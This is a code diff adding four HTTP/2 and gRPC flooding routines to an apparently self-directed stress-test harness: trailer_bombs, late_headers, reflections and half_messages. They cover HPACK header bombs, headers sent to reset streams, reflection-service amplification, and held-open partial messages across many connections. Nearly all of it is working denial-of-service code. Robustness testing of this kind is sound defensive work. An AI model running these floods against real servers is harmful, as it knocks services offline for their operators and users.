@@ -249,6 +249,53 @@ def header_bombs(attack):
     attack.flood(b"", calls, 1)
 
 
+def trailer_bombs(attack):
+    """The same after a request has begun, where no field is of use to anyone, and with a value that HTTP forbids."""
+    for_table = b"\x40" + http2.integer(1, 7) + b"x" + http2.integer(3900, 7)
+    head = header_block(wire.RESERVE)
+
+    def calls(number):
+        stream = 2 * number + 1
+        bomb = (for_table + b"y" * 3899 + (b"y" if number % 2 else b"\x01") + b"\xbe" * 12_000)[:16384]
+        return frame(HEADERS, END_HEADERS, stream, head) + frame(HEADERS, END_HEADERS | END_STREAM, stream, bomb)
+
+    attack.flood(b"", calls, 2)
+
+
+def late_headers(attack):
+    """Header blocks for a stream that the node had to reset: they open nothing and are answered by nothing."""
+    start = frame(HEADERS, END_HEADERS, 1, header_block(wire.RESERVE))
+    start += frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 0x7FFFFFFF))
+    attack.flood(start, lambda _: frame(HEADERS, END_HEADERS, 1, literal("a", "b")) * 200, 200)
+
+
+def reflections(attack):
+    """Small questions with large answers, on one stream, and nothing is read."""
+    path = "/grpc.reflection.v1.ServerReflection/ServerReflectionInfo"
+    start = settings(INITIAL_WINDOW_SIZE=0) + frame(HEADERS, END_HEADERS, 1, header_block(path))
+    question = grpc_message(wire.field(4, b"holdfast.v1.HoldService"))
+    attack.flood(start, lambda _: frame(DATA, 0, 1, question * 400), 1)
+
+
+def half_messages(attack):
+    """Fifteen kilobytes of a message of a megabyte, on each of a connection's streams, on ten connections at a time."""
+    part = frame(DATA, 0, 0, grpc_message(bytes(15_000), length=1 << 20))
+
+    def streams():
+        for stream in range(1, 501, 2):
+            yield frame(HEADERS, END_HEADERS, stream, header_block(wire.RESERVE))
+            yield part[:5] + struct.pack(">I", stream) + part[9:]
+
+    whole = b"".join(streams())
+    while not attack.over():
+        with contextlib.ExitStack() as held, contextlib.suppress(OSError):
+            for _ in range(10):
+                connection = held.enter_context(attack.connect())
+                connection.settimeout(0.5)
+                connection.sendall(whole)
+                attack.frames += 500
+
+
 def long_headers(attack):
     """Honest headers far beyond any limit, in one block after another."""
     value = "z" * 8000
@@ -450,6 +497,10 @@ ATTACKS = {
     "window-update": (window_updates, "closes"),
     "priority": (priorities, "closes"),
     "header-bomb": (header_bombs, "closes"),
+    "trailer-bomb": (trailer_bombs, "closes"),
+    "late-headers": (late_headers, "closes"),
+    "reflections": (reflections, "closes"),
+    "half-messages": (half_messages, ""),
     "long-headers": (long_headers, ""),
     "open-streams": (open_streams, ""),
     "connections": (connection_flood, ""),
